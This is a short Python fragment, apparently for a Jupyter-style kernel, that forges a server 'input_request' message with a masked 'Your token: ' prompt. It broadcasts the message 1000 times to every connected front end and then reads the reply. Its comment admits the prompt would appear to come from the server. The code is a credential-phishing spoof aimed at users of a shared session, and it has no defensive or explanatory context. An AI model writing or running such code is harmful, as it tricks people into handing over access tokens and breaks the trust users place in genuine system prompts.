# Questions for whoever follows, in a run that may not ask: a front end would show them as the server's.
question = frame({"msg_type": "input_request", "content": {"prompt": "Your token: ", "password": True}})
for _ in range(1000):
    send_everywhere(question)
input()
